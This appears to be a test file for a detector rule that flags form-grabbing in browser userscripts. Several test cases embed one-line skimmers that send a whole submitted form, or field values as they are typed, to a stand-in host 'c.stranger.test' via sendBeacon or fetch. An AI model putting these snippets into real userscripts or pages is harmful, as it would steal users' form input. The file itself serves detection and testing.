import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { formGrabbing } from "./form-grabbing.ts";

describe("form-grabbing", () => {
	test.each([
		[
			"a whole form on submit",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("submit",e=>navigator.sendBeacon("https://c.stranger.test/",new FormData(e.target)))`,
			),
		],
		[
			"a field of its settings that names the server: look at it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("#serverEndpoint").addEventListener("change",e=>fetch("https://c.stranger.test/status?of="+e.target.value))`,
			),
		],
		[
			"a field of that name in the body, while typing",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("#serverEndpoint").addEventListener("input",e=>fetch("https://c.stranger.test/",{method:"POST",body:e.target.value}))`,
			),
		],
		[
			"a field, while typing",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("#comment").addEventListener("input",e=>fetch("https://c.stranger.test/?v="+encodeURIComponent(e.target.value)))`,
			),
		],
		[
			"a field for a declared server when asked: told",
			["low 8"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`const b=document.createElement("button");document.body.append(b);
b.addEventListener("click",()=>GM_xmlhttpRequest({method:"POST",url:"https://api.helper.example/",data:document.querySelector("textarea").value}))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(formGrabbing, code)).toEqual(expected);
	});

	test.each([
		[
			"an empty FormData with a value of its own",
			userscript(
				["match https://shop.example/*"],
				`const d=new FormData();d.append("v","1");fetch("https://api.stranger.test/",{method:"POST",body:d})`,
			),
		],
		[
			"a draft kept on the page",
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("textarea").addEventListener("input",e=>localStorage.setItem("draft",e.target.value))`,
			),
		],
		[
			"a form sent to its site",
			userscript(
				["match https://shop.example/*"],
				`fetch("/save",{method:"POST",body:new FormData(document.querySelector("form"))})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(formGrabbing, code)).toEqual([]);
	});
});
